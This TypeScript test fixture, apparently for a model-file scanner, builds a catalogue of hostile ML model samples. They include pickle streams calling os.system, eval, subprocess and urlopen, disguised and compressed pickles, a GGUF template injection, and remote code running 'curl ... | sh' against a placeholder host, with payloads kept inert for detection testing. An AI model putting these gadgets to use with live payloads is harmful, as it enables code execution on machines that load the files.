import { deflateSync, gzipSync } from "node:zlib";
import { ggufOf } from "../../src/platform/scanning/model-formats.fixture.ts";
import { zipOf } from "../../src/platform/scanning/target.fixture.ts";
import {
  bytes,
  call,
  dictionary,
  get,
  global,
  instance,
  longText,
  MEMOIZE,
  pickle,
  raw,
  small,
  stackGlobal,
  text,
} from "./pickle-writer.ts";

// Every payload is `true` or a name under .invalid: what a scanner must see is the callable.
const TRUE = text("true");
const system = call(stackGlobal("posix", "system"), TRUE);
const kerasModel = (layer: object): Buffer =>
  Buffer.from(
    JSON.stringify({ class_name: "Sequential", config: { name: "s", layers: [layer] }, keras_version: "3.5.0" }),
  );

/** Harmful model files by name of sample and path. */
export const HOSTILE_MODELS: [name: string, files: Record<string, Uint8Array>][] = [
  ["direct-global--popen", { "model.pkl": pickle(2, call(global("subprocess", "Popen"), TRUE)) }],
  ["direct-global--eval", { "weights.bin": pickle(4, call(stackGlobal("builtins", "eval"), text("1+1"))) }],
  ["direct-global--nt-python2", { "m.pickle": raw("c__builtin__\nexecfile\n(S'a.py'\ntR.") }],
  [
    "stack-global-memo--twisted",
    {
      "model.pt": pickle(
        4,
        text("system"),
        MEMOIZE,
        "0",
        text("os"),
        MEMOIZE,
        "0",
        get(1),
        get(0),
        raw(0x93),
        "(",
        TRUE,
        "tR",
      ),
    },
  ],
  [
    "stack-global-memo--long-binput",
    {
      "model.pkl": pickle(
        2,
        longText("nt"),
        "r\x00\x01\x00\x00",
        "0",
        longText("system"),
        "q\x07",
        "0",
        "j\x00\x01\x00\x00h\x07",
        0x93,
        TRUE,
        "\x85R",
      ),
    },
  ],
  [
    "getattr-chain--builtins",
    {
      "model.pkl": pickle(
        4,
        call(
          call(
            stackGlobal("builtins", "getattr"),
            call(stackGlobal("builtins", "__import__"), text("os")),
            text("system"),
          ),
          TRUE,
        ),
      ),
    },
  ],
  ["getattr-chain--dotted-name", { "model.pkl": pickle(4, call(stackGlobal("logging", "os.system"), TRUE)) }],
  [
    "getattr-chain--attrgetter",
    {
      "model.pkl": pickle(
        4,
        call(
          call(stackGlobal("operator", "attrgetter"), text("system")),
          call(stackGlobal("importlib", "import_module"), text("os")),
        ),
      ),
    },
  ],
  ["indirect-run--runpy", { "model.pkl": pickle(4, call(stackGlobal("runpy", "_run_code"), text("pass"), raw("}"))) }],
  [
    "indirect-run--pip",
    {
      "model.pkl": pickle(
        4,
        call(stackGlobal("pip", "main"), raw("]("), text("install"), text("inert-package"), raw("e")),
      ),
    },
  ],
  ["indirect-run--timeit", { "model.pkl": pickle(4, call(stackGlobal("timeit", "timeit"), text("pass"))) }],
  ["indirect-run--bdb", { "model.pkl": pickle(4, call(stackGlobal("bdb", "Bdb.run"), raw("N"), text("pass"))) }],
  ["indirect-run--pipepager", { "model.pkl": pickle(4, call(stackGlobal("pydoc", "pipepager"), text(""), TRUE)) }],
  [
    "library-gadget--numpy-runstring",
    {
      "model.npz.pkl": pickle(3, call(global("numpy.testing._private.utils", "runstring"), longText("pass"), raw("}"))),
    },
  ],
  [
    "library-gadget--torch-jit",
    {
      "model.pt": pickle(
        2,
        call(global("torch.jit.unsupported_tensor_ops", "execWrapper"), longText("pass"), raw("}"), raw("}")),
      ),
    },
  ],
  [
    "library-gadget--torch-hub",
    { "model.bin": pickle(2, call(global("torch.hub", "load"), longText("inert/repo"), longText("m"))) },
  ],
  ["native-code--ctypes", { "model.pkl": pickle(4, call(stackGlobal("ctypes", "CDLL"), text("./libinert.so"))) }],
  [
    "network--urlopen",
    { "model.pkl": pickle(4, call(stackGlobal("urllib.request", "urlopen"), text("https://collect.invalid"))) },
  ],
  [
    "file-write--pathlib",
    {
      "model.pkl": pickle(
        4,
        call(
          stackGlobal("pathlib", "Path.write_text"),
          call(stackGlobal("pathlib", "Path"), text(".bashrc")),
          text("#"),
        ),
      ),
    },
  ],
  [
    "nested--pickle-in-bytes",
    { "model.pkl": pickle(4, call(stackGlobal("_pickle", "loads"), bytes(pickle(4, system)))) },
  ],
  [
    "nested--in-state",
    {
      "model.pkl": pickle(
        4,
        dictionary(
          [text("weights"), bytes(pickle(2, call(global("os", "system"), TRUE)))],
          [text("loader"), stackGlobal("pickle", "loads")],
        ),
      ),
    },
  ],
  ["old-opcodes--inst", { "m.pkl": raw("(S'true'\nicommands\ngetoutput\n.") }],
  ["old-opcodes--obj", { "m.pkl": raw("(cos\nsystem\nS'true'\no.") }],
  [
    "build--setstate",
    {
      "model.pkl": pickle(
        4,
        instance(stackGlobal("sklearn.pipeline", "Pipeline"), ["__setstate__", stackGlobal("os", "system")]),
        TRUE,
        "b",
      ),
    },
  ],
  ["extension-registry--ext1", { "model.pkl": pickle(2, raw(0x82, 7), TRUE, "\x85R") }],
  ["broken-stream--unknown-opcode", { "model.pkl": raw(0x80, 4, system, 0xff, 0xff, "xyz") }],
  [
    "broken-stream--no-stop",
    { "pytorch_model.bin": raw(0x80, 2, call(global("os", "system"), TRUE), "X\xff\xff\xff\x7f") },
  ],
  ["after-stop--second-pickle", { "model.pkl": raw(pickle(4, dictionary([text("a"), small(1)])), pickle(4, system)) }],
  [
    "archive--wrong-crc",
    {
      "model.pt": zipOf([
        { name: "m/data.pkl", bytes: pickle(2, call(global("os", "system"), TRUE)), crc: 1 },
        { name: "m/version", bytes: raw("3\n") },
      ]),
    },
  ],
  [
    "archive--odd-member-name",
    {
      "model.pt": zipOf([
        { name: "m/data.pkl", bytes: pickle(2, "}") },
        { name: "m/extra.config", bytes: pickle(4, system) },
      ]),
    },
  ],
  ["compressed--gzip", { "model.joblib": gzipSync(pickle(4, system)) }],
  ["compressed--zlib", { "model.pkl.z": deflateSync(pickle(4, system)) }],
  [
    "compressed--bz2",
    {
      "model.joblib": Buffer.from(
        "QlpoOTFBWSZTWQbKb8wAAA1TwFQQAAEQQAoi3mBCACAAIoBppoNM1CgaaGRkxJyg5IxgzZ36y2YGSgUCfF3JFOFCQBspvzA=",
        "base64",
      ),
    },
  ],
  ["disguise--safetensors-name", { "model.safetensors": pickle(4, system) }],
  [
    "disguise--image-name",
    { "logo.png": pickle(2, call(global("subprocess", "check_output"), TRUE)), "config.json": raw("{}") },
  ],
  [
    "other-format--keras-lambda",
    {
      "model.keras": zipOf([
        {
          name: "config.json",
          bytes: kerasModel({
            class_name: "Lambda",
            config: { name: "l", function: { class_name: "__lambda__", config: { code: "4wEAAAAAAAAAAAAAAAIAAABD" } } },
          }),
        },
      ]),
    },
  ],
  [
    "other-format--gguf-template",
    {
      "m.gguf": ggufOf({
        metadata: [["tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('true').read() }}"]],
      }),
    },
  ],
  [
    "remote-code--modeling",
    {
      "config.json": raw('{"auto_map":{"AutoModel":"modeling_x.X"}}'),
      "modeling_x.py": raw(
        "import os, torch\nos.system('curl -s https://weights.invalid/x | sh')\nclass X(torch.nn.Module): pass\n",
      ),
    },
  ],
];
